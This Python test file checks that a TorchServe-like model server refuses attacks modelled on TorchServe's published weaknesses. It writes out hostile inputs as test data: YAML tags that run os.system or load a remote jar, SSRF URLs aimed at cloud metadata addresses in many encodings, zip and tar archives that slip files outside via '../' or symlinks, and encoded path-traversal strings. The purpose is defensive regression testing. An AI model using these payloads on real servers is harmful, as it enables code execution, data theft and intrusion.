"""What TorchServe's published weaknesses were about, tried on servers that run.

Each test bears the name under which the weakness is known. Beside every refusal stands what
still works, so that a server that refuses everything would not pass.
"""

import io
import json
import os
import socket
import subprocess
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import psutil
import pytest
from own_address import own_address
from serving import serving

from torchkeep.frontend.worker_users import has_capability
from torchkeep.runtime.config import Config

ROOT = Path(__file__).resolve().parent.parent.parent
SYS_ADMIN = 21  # what a network of one's own takes
GRPC_PORTS = {7070, 7071}
HANDLER = "def handle(data, context):\n    return ['served'] * len(data) if data else None\n"


# -- archives --------------------------------------------------------------------------------


def files(name: str, config: str | None = None, **model: Any) -> dict[str, bytes]:
    """The files of an archive; `model` is more of its manifest."""
    manifest = {"modelName": name, "modelVersion": "1.0", "handler": "h.py", **model}
    packed = {"h.py": HANDLER.encode()}
    if config is not None:
        manifest["configFile"] = "model-config.yaml"
        packed["model-config.yaml"] = config.encode()
    text = json.dumps({"runtime": "python", "model": manifest})
    return {**packed, "MAR-INF/MANIFEST.json": text.encode()}


def mar(packed: dict[str, bytes], *links: tuple[str, str]) -> bytes:
    """A zip; each of `links` is (name, where it points)."""
    content = io.BytesIO()
    with (
        warnings.catch_warnings(action="ignore"),  # of names that are there twice
        zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name, target in links:
            link = zipfile.ZipInfo(name)
            link.external_attr = 0o120777 << 16
            archive.writestr(link, target)
        for name, body in packed.items():
            archive.writestr(name, body)
    return content.getvalue()


def tgz(packed: dict[str, bytes], *links: tuple[str, str], kind: bytes = tarfile.SYMTYPE) -> bytes:
    """A tar compressed by gzip; names are as they are given."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name, target in links:
            link = tarfile.TarInfo(name)
            link.type, link.linkname = kind, target
            archive.addfile(link)
        for name, body in packed.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return content.getvalue()


def below(folder: str, packed: dict[str, bytes]) -> dict[str, bytes]:
    return {f"{folder}/{name}": body for name, body in packed.items()}


# -- servers ---------------------------------------------------------------------------------


class Elsewhere(ThreadingHTTPServer):
    """Another machine: has a model, or leads on to wherever `moves` says; notes who asks."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.moves: dict[str, str] = {}
        self.asked: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Answers(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        location = self.server.moves.get(self.path)
        content = mar(files("fetched")) if location is None else b""
        self.send_response(200 if location is None else 302)
        self.send_header("Content-Length", str(len(content)))
        if location is not None:
            self.send_header("Location", location)
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def allowed() -> Iterator[Elsewhere]:
    """Where archives may come from."""
    with serving(Elsewhere()) as other:
        yield other


@pytest.fixture(scope="module")
def secret() -> Iterator[Elsewhere]:
    """A service that no archive may come from."""
    with serving(Elsewhere()) as other:
        yield other


class Target:
    """A server under attack, what it may write to, and what it must not."""

    def __init__(self, home: Path, start: Callable[..., Any], **options: Any) -> None:
        self.store = home / "store"
        self.marker = home / "pwned"
        self.server = start(store=self.store, **options)

    def put(self, name: str, archive: bytes) -> None:
        (self.store / name).write_bytes(archive)

    def ask(self, method: str, path: str, port: str = "management") -> tuple[int, dict[str, str]]:
        status, _, body = self.server.request(method, path, port=port)
        return status, json.loads(body)

    def register(self, url: str, **parameters: str) -> tuple[int, dict[str, str]]:
        query = "&".join(
            f"{name}={quote(value, safe='')}" for name, value in {"url": url, **parameters}.items()
        )
        return self.ask("POST", f"/models?{query}")

    def refuses(self, url: str, **parameters: str) -> dict[str, str]:
        """The refusal of a registration after which nothing is anywhere that was not before."""
        before = self.tree()
        status, answer = self.register(url, **parameters)
        assert status >= 400, (url, answer)
        assert "Traceback" not in answer["message"]
        assert self.tree() == before
        assert self.ask("GET", "/models")[1] == {"models": []}
        return answer

    def accepts(self, url: str, **parameters: str) -> None:
        before = self.tree()
        status, answer = self.register(url, **parameters)
        assert status == 200, (url, answer)
        (model,) = self.ask("GET", "/models")[1]["models"]
        name = quote(model["modelName"], safe="")
        assert self.ask("DELETE", f"/models/{name}")[0] == 200
        assert self.tree() == before

    def tree(self) -> set[Path]:
        """Every file there is, but for logs."""
        home = self.store.parent
        found = {path for root in (home, self.server.workdir) for path in root.rglob("*")}
        return {path for path in found if "logs" not in path.parts and not path.is_dir()}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("home")
    for directory in ("store", "ours", "theirs"):
        (home / directory).mkdir()
    for directory in ("ours", "theirs"):
        (home / directory / "m.mar").write_bytes(mar(files("copied")))
    return home


@pytest.fixture(scope="module")
def narrow(home: Path, shared_server_factory: Callable[..., Any], allowed: Elsewhere) -> Target:
    """Archives may come from one place of one machine, and from one directory."""
    allowed_urls = f"{allowed.url}/ours/.*,file://{home}/ours/.*"
    return Target(home, shared_server_factory, config={"allowed_urls": allowed_urls})


@pytest.fixture(scope="module")
def wide(
    tmp_path_factory: pytest.TempPathFactory, shared_server_factory: Callable[..., Any]
) -> Target:
    """`allowed_urls` is unset, hence everything; a hostile metrics.yaml is configured."""
    home = tmp_path_factory.mktemp("wide")
    (home / "store").mkdir()
    (home / "metrics.yaml").write_text(
        f"ts_metrics: !!python/object/apply:os.system ['touch {home / 'pwned'}']\n"
    )
    config = {"sandbox": "strict", "metrics_config": str(home / "metrics.yaml")}
    return Target(home, shared_server_factory, config=config)


# -- ShellTorch: whoever reached the management port ran code on the machine -------------------


def listening(processes: list[psutil.Process]) -> set[tuple[str, int]]:
    """Where these processes, and those they started, accept connections by TCP."""
    family = [one for process in processes for one in (process, *process.children(True))]
    return {
        (connection.laddr.ip, connection.laddr.port)
        for one in family
        for connection in one.net_connections("inet")
        if connection.status == psutil.CONN_LISTEN
    }


@pytest.mark.skipif(not has_capability(SYS_ADMIN), reason="only root has a network of its own")
def test_shelltorch_management_address(tmp_path: Path, poll: Callable[..., Any]) -> None:
    """Without any configuration, no port is open to other machines; gRPC's neither."""
    log = tmp_path / "log"
    command = [sys.executable, str(ROOT / "tests/support/own_network.py")]
    command += [sys.executable, "-P", "-m", "torchkeep.runtime", "--start", "--foreground"]
    command += ["--ncs", "--model-store", str(tmp_path)]
    environment = {**os.environ, "TEMP": str(tmp_path), "TMPDIR": str(tmp_path)}
    with (
        log.open("wb") as output,
        subprocess.Popen(command, cwd=tmp_path, env=environment, stdout=output) as process,
    ):
        try:
            poll(lambda: "Model server started." in log.read_text(), "the server to start")
            table = Path(f"/proc/{process.pid}/net/tcp").read_text().splitlines()[1:]
            table6 = Path(f"/proc/{process.pid}/net/tcp6").read_text().splitlines()[1:]
        finally:
            process.terminate()
            process.wait(30)
    loopback = "0100007F"
    found = sorted(line.split()[1] for line in table if line.split()[3] == "0A")
    assert found == sorted(f"{loopback}:{port:04X}" for port in (8080, 8081, 8082))
    assert [line for line in table6 if line.split()[3] == "0A"] == []


def test_shelltorch_from_another_address(narrow: Target) -> None:
    address = own_address()
    if address is None:
        pytest.skip("this machine has no address but loopback")
    for port in ("inference", "management", "metrics"):
        number = int(getattr(narrow.server, port).rpartition(":")[2])
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection((address, number), 10)


def test_shelltorch_warning(server_factory: Callable[..., Any], tmp_path: Path) -> None:
    """Whoever opens the port without keys is told what that means, by each spelling of open."""
    hosts = ["0.0.0.0", own_address() or socket.gethostname()]
    for host in hosts:
        config = {"management_address": f"http://{host}:0", "inference_address": "http://0.0.0.0:0"}
        log = server_factory(config=config).log_text()
        assert log.count("ANYBODY who can reach") == 1
        assert f"ANYBODY who can reach the management API at http://{host}:0 can register" in log
        assert "a model is code that runs here" in log
    config = {
        "management_address": f"unix:{tmp_path}/management.sock",
        "inference_address": "http://0.0.0.0:0",
        "metrics_address": "http://0.0.0.0:0",
    }
    assert "ANYBODY" not in server_factory(config=config).log_text()


def test_shelltorch_registration_without_a_key(
    server_factory: Callable[..., Any], tmp_path: Path
) -> None:
    """As it comes: nobody registers without a key, and with one only where that is enabled."""
    (tmp_path / "m.mar").write_bytes(mar(files("m")))
    server = server_factory(config={"enable_model_api": "false"}, asks_for_keys=True)
    path = "/models?url=m.mar"
    for headers in ({}, {"Authorization": "Bearer guessed1"}, {"Origin": "http://evil.example"}):
        status, _, body = server.request("POST", path, None, headers, "management")
        assert (status, json.loads(body)["type"]) == (400, "InvalidKeyException")
    headers = {"Authorization": f"Bearer {server.keys['management']}"}
    assert server.request("POST", path, None, headers, "management")[0] == 405
    assert server.request("GET", "/models", None, headers, "management")[0] == 200


# -- CVE-2023-43654: registering made the server ask whoever its url named --------------------


def test_cve_2023_43654_ssrf_by_registration_url(
    narrow: Target, allowed: Elsewhere, secret: Elsewhere, home: Path
) -> None:
    before = len(secret.asked), len(allowed.asked)
    place = allowed.url.removeprefix("http://")
    other = secret.url.removeprefix("http://")
    for url in (
        f"{secret.url}/m.mar",
        f"{secret.url}/ours/m.mar",
        f"{allowed.url}/theirs/m.mar",
        f"http://{place}@{other}/ours/m.mar",
        f"http://{place}#@{other}/ours/m.mar",
        f"{secret.url}/m.mar?{allowed.url}/ours/m.mar",
        f"{secret.url}/m.mar#{allowed.url}/ours/m.mar",
        f"{allowed.url}\\@{other}/ours/m.mar",
        f"{allowed.url}.{other}/ours/m.mar",
        f"https://{place}/ours/m.mar",
        f"http://localhost:{secret.server_port}/m.mar",
        f"file://{home}/theirs/m.mar",
        f"{allowed.url}/ours/m.mar\n{secret.url}/m.mar",
        "http://169.254.169.254/latest/meta-data/m.mar",
    ):
        answer = narrow.refuses(url)
        assert (answer["code"], answer["type"]) == (404, "ModelNotFoundException"), answer
        assert answer["message"] == f"Given URL {url} does not match any allowed URL(s)"
    assert (len(secret.asked), len(allowed.asked)) == before
    narrow.accepts(f"{allowed.url}/ours/m.mar")
    narrow.accepts(f"file://{home}/ours/m.mar")


def test_cve_2023_43654_ssrf_by_redirects(
    narrow: Target, allowed: Elsewhere, secret: Elsewhere, home: Path
) -> None:
    before = len(secret.asked)
    for number, location in enumerate(
        [
            f"{secret.url}/m.mar",
            f"//{secret.url.removeprefix('http://')}/m.mar",
            f"{allowed.url}/theirs/m.mar",
            f"{allowed.url}/ours/%2e%2e/theirs/m.mar",
            f"{allowed.url}/ours/..%2ftheirs/m.mar",
            "/theirs/m.mar",
            f"file://{home}/ours/m.mar",
            f"file://{home}/theirs/m.mar",
            "ftp://127.0.0.1/m.mar",
            "http://169.254.169.254/m.mar",
        ]
    ):
        allowed.moves[f"/ours/{number}.mar"] = location
        narrow.refuses(f"{allowed.url}/ours/{number}.mar")
        assert allowed.asked[-1] == f"/ours/{number}.mar"
    assert len(secret.asked) == before
    allowed.moves["/ours/moved.mar"] = "/ours/m.mar"
    narrow.accepts(f"{allowed.url}/ours/moved.mar")


def test_cve_2023_43654_ssrf_by_names_and_odd_spellings(wide: Target, secret: Elsewhere) -> None:
    """What is forbidden whatever `allowed_urls` says is so by every name and spelling."""
    number, before = secret.server_port, len(secret.asked)
    places = {
        "a metadata service": [
            *("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"),
            *("169.254.43518", "0xA9.0xFE.0xA9.0xFE", "[::ffff:169.254.169.254]"),
            *("[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]"),
            *("[fd00:ec2::254]", "metadata.google.internal", "METADATA.google.internal."),
        ],
        "a link-local address": ["169.254.1.1", "[fe80::1]"],
        "no particular machine": [f"0:{number}", f"0.0.0.0:{number}", f"[::]:{number}"],
        "this machine itself": [
            *(f"127.0.0.1:{number}", f"127.1:{number}", f"2130706433:{number}"),
            *(f"0x7f.1:{number}", f"0177.0.0.1:{number}", f"127.9.9.9:{number}"),
            *(f"[::1]:{number}", f"[::ffff:127.0.0.1]:{number}"),
            *(f"localhost:{number}", f"LocalHost:{number}"),
        ],
    }
    address = own_address()
    if address is not None:
        places["this machine itself"].append(f"{address}:{number}")
    for kind, hosts in places.items():
        for host in hosts:
            answer = wide.refuses(f"http://{host}/m.mar")
            if answer["type"] == "DownloadArchiveException" and "[" in host:
                continue  # this machine has no way there at all
            assert (answer["code"], answer["type"]) == (404, "ModelNotFoundException"), answer
            assert f"leads to {kind}," in answer["message"]
    assert len(secret.asked) == before


# -- CVE-2022-1471: a tag in a yaml file made an object of any class ---------------------------

JAVA_TAG = (
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['{}']]]]"
)


def test_cve_2022_1471_yaml_of_a_model(narrow: Target, secret: Elsewhere) -> None:
    before = len(secret.asked)
    tags = (
        JAVA_TAG.format(f"{secret.url}/evil.jar"),
        f"!!python/object/apply:os.system ['touch {narrow.marker}']",
        f"!!python/object/new:os.system ['touch {narrow.marker}']",
        f"!!python/object/apply:subprocess.Popen [['touch', '{narrow.marker}']]",
        "!!python/name:os.system",
        "!!python/module:os",
    )
    for number, tag in enumerate(tags):
        for text in (f"minWorkers: {tag}\n", f"{tag}\n", f"handler: {{a: {tag}}}\n"):
            narrow.put("tagged.mar", mar(files("tagged", text)))
            narrow.accepts("tagged.mar")
            log = narrow.server.wait_for_lines("model-config.yaml is ignored, it is no yaml")
        # With a worker, too, which reads the same file.
        if number < 2:
            answer = narrow.register("tagged.mar", initial_workers="1")
            assert answer[0] == 500, answer
            assert "could not determine a constructor" in answer[1]["message"]
    (narrow.store / "tagged.mar").unlink()
    assert not narrow.marker.exists()
    assert len(secret.asked) == before
    assert "could not determine a constructor" in log


def test_cve_2022_1471_yaml_of_metrics(wide: Target) -> None:
    """The server starts and serves; what it cannot read is not there."""
    log = wide.server.wait_for_lines("Failed to load metrics configuration")
    assert "could not determine a constructor for the tag" in log
    assert not wide.marker.exists()
    assert wide.ask("GET", "/ping", "inference")[0] == 200


def test_cve_2022_1471_yaml_of_the_logs(tmp_path: Path) -> None:
    marker, config = tmp_path / "pwned", tmp_path / "log.yaml"
    config.write_text(f"version: !!python/object/apply:os.system ['touch {marker}']\n")
    command = [sys.executable, "-P", "-m", "torchkeep.runtime", "--foreground", "--ncs"]
    ended = subprocess.run(
        [*command, "--model-store", str(tmp_path), "--log-config", str(config)],
        cwd=tmp_path,
        env={**os.environ, "TEMP": str(tmp_path), "TMPDIR": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert ended.returncode == 1
    assert f"--log-config {config} is no yaml: could not determine a constructor" in ended.stdout
    assert "Traceback" not in ended.stdout + ended.stderr
    assert not marker.exists()


# -- CVE-2023-48299: entries of an archive were written wherever they said ---------------------


def slips(marker: Path) -> dict[str, bytes]:
    """Archives of every kind that would write to `marker`, or let a later entry do it."""
    evil, good = b"evil", files("slip")
    ups = "../" * 12 + str(marker).lstrip("/")
    outside = str(marker.parent)
    names = {
        "up": ups,
        "up from inside": f"a/../{ups}",
        "absolute": str(marker),
        "absolute twice": f"/{marker}",
        "backslashes": "..\\..\\pwned",
        "a drive": "C:\\pwned",
        "mixed": f"..\\{ups}",
        "up at the end": "a/..",
    }
    archives = {}
    for label, name in names.items():
        archives[f"{label}.mar"] = mar({**good, name: evil})
        tar_name = name if name.startswith("/") else f"slip/{name}"
        archives[f"{label}.tar.gz"] = tgz({**below("slip", good), tar_name: evil})
        archives[f"{label}, at the top.tar.gz"] = tgz({**below("slip", good), name: evil})
    through = {**good, "link/pwned": evil}
    archives["a link to a directory.mar"] = mar(through, ("link", outside))
    archives["a link to a file.mar"] = mar({**good, "link": evil}, ("link", str(marker)))
    archives["a link to a handler.mar"] = mar({**good}, ("more.py", "/etc/passwd"))
    for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
        label = "hard link" if kind == tarfile.LNKTYPE else "link"
        archives[f"a {label} to a directory.tar.gz"] = tgz(
            below("slip", through), ("slip/link", outside), kind=kind
        )
        archives[f"a {label} to a file.tar.gz"] = tgz(
            below("slip", {**good, "link": evil}), ("slip/link", str(marker)), kind=kind
        )
        archives[f"the top is a {label}.tar.gz"] = tgz(
            below("slip", {**good, "pwned": evil}), ("slip", outside), kind=kind
        )
    for kind in (tarfile.FIFOTYPE, tarfile.CHRTYPE):
        archives[f"a device {kind!r}.tar.gz"] = tgz(
            below("slip", good), ("slip/device", ""), kind=kind
        )
    return archives


def test_cve_2023_48299_zip_slip(narrow: Target) -> None:
    for number, (label, archive) in enumerate(slips(narrow.marker).items()):
        name = f"slip{number}{'.mar' if label.endswith('.mar') else '.tar.gz'}"
        narrow.put(name, archive)
        answer = narrow.refuses(name)
        assert (answer["code"], answer["type"]) == (400, "InvalidModelException"), (label, answer)
        assert answer["message"].startswith(f"{name}: entry "), (label, answer)
        assert not narrow.marker.exists()
        (narrow.store / name).unlink()
    narrow.put("good.mar", mar(files("good")))
    narrow.put("good.tar.gz", tgz(below("good", files("good"))))
    for name in ("good.mar", "good.tar.gz"):
        narrow.accepts(name)
        (narrow.store / name).unlink()


# -- CVE-2024-35198: `..` in a url led out of what `allowed_urls` allows -----------------------

DOTS = [
    *("..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%25252e%25252e", "%252e."),
    *("%2e%2e%2f", "..%2f", "%2e%2e%5c", "..\\", "\\..", "..%5c", "..;", "%2e%2e;a=b"),
    ".%25252525252e",
]


@pytest.mark.parametrize("dots", DOTS)
def test_cve_2024_35198_allowed_urls_by_two_dots(
    narrow: Target, allowed: Elsewhere, home: Path, dots: str
) -> None:
    before = len(allowed.asked)
    for url in (
        f"{allowed.url}/ours/{dots}/theirs/m.mar",
        f"{allowed.url}/ours/a/{dots}/{dots}/theirs/m.mar",
        f"HTTP://{allowed.url.removeprefix('http://')}/ours/{dots}/theirs/m.mar",
        f"file://{home}/ours/{dots}/theirs/m.mar",
        f"FILE://{home}/ours/{dots}/theirs/m.mar",
    ):
        answer = narrow.refuses(url)
        assert (answer["code"], answer["type"]) == (404, "ModelNotFoundException")
        assert answer["message"] == f"Relative path is not allowed in url: {url}"
    assert len(allowed.asked) == before


def test_cve_2024_35198_dots_that_show_late(narrow: Target, home: Path) -> None:
    """Characters that readers of urls leave out, and links, lead nowhere either."""
    for between in ("\t", "%09"):
        narrow.refuses(f"file://{home}/ours/.{between}./theirs/m.mar")
    (home / "ours" / "deeper").mkdir()
    (home / "ours" / "deeper" / "m.mar").write_bytes(mar(files("copied")))
    narrow.accepts(f"file://{home}/ours/deeper/m.mar")


# -- CVE-2024-35199: gRPC listened on every address, whatever was configured -------------------


def test_cve_2024_35199_grpc_addresses(narrow: Target, wide: Target) -> None:
    """gRPC is not served yet; its addresses are loopback for when it is."""
    config = Config()
    assert config.grpc_inference_address == "127.0.0.1"
    assert config.grpc_management_address == "127.0.0.1"
    for target in (narrow, wide):
        found = listening([psutil.Process(target.server.pid)])
        ports = [
            int(getattr(target.server, name).rpartition(":")[2])
            for name in ("inference", "management", "metrics")
        ]
        assert found == {("127.0.0.1", port) for port in ports}
        assert not GRPC_PORTS & {port for _, port in found}


# -- a manifest that names files, or itself, as a way out ---------------------------------------


def test_paths_of_a_manifest_that_leave_the_archive(narrow: Target) -> None:
    stolen = narrow.store.parent / "theirs" / "h.py"
    stolen.write_text(f"open({str(narrow.marker)!r}, 'w')\n{HANDLER}")
    ways = [str(stolen), "../" * 12 + str(stolen).lstrip("/"), "a/../../h.py", "..", "..\\h.py"]
    keys = ["handler", "serializedFile", "modelFile", "requirementsFile", "configFile"]
    for key in (*keys, "sourceVocab"):
        for way in ways:
            narrow.put("way.mar", mar(files("way", **{key: way})))
            answer = narrow.refuses("way.mar", initial_workers="1")
            assert (answer["code"], answer["type"]) == (400, "InvalidModelException")
            expected = f"MAR-INF/MANIFEST.json: {key} leaves the model directory: {way}"
            assert answer["message"] == expected
    for extra in ([str(stolen)], {"files": ["../h.py"]}):
        narrow.put("way.mar", mar(files("way", extensions=extra)))
        assert "extensions leaves the model directory" in narrow.refuses("way.mar")["message"]
    # What is given at registration stands in the place of the manifest's.
    narrow.put("way.mar", mar(files("way")))
    for way in (str(stolen), f"{stolen}:handle", "../h.py", "a/../../h:handle", "..\\h.py"):
        answer = narrow.refuses("way.mar", initial_workers="1", handler=way)
        assert (answer["code"], answer["type"]) == (400, "BadRequestException")
        assert answer["message"] == f"Parameter handler leaves the model directory: {way}"
    narrow.accepts("way.mar", initial_workers="1", handler="h:handle")
    (narrow.store / "way.mar").unlink()
    stolen.unlink()
    assert not narrow.marker.exists()


def test_names_of_a_manifest_that_are_paths(
    server_factory: Callable[..., Any], tmp_path: Path
) -> None:
    """TorchServe takes such names; so do we, and they are no part of any path."""
    (tmp_path / "store").mkdir()
    target = Target(
        tmp_path,
        server_factory,
        snapshots=True,
        env={"LOG_LOCATION": str(tmp_path / "logs"), "METRICS_LOCATION": str(tmp_path / "logs")},
    )
    server = target.server
    name, version = "../../../up/a", "../../1.0"
    target.put("up.mar", mar(files(name, modelVersion=version)))
    before = target.tree()
    status, answer = target.register("up.mar", initial_workers="1")
    assert status == 200, answer
    logs = {path.name for path in (tmp_path / "logs").iterdir()}
    inside = {path for path in target.tree() - before}
    assert all(server.temp in path.parents for path in inside), inside
    assert logs == {
        *("access_log.log", "config", "model_log.log", "model_metrics.log"),
        *("ts_log.log", "ts_metrics.log"),
    }
    encoded = quote(name, safe="")
    # Names with slashes cannot be asked for by path, in TorchServe neither.
    assert server.request("GET", f"/models/{encoded}", port="management")[0] == 404
    status, _, body = server.request("POST", f"/invocations?model_name={encoded}", b"x")
    assert (status, body) == (200, b"served")
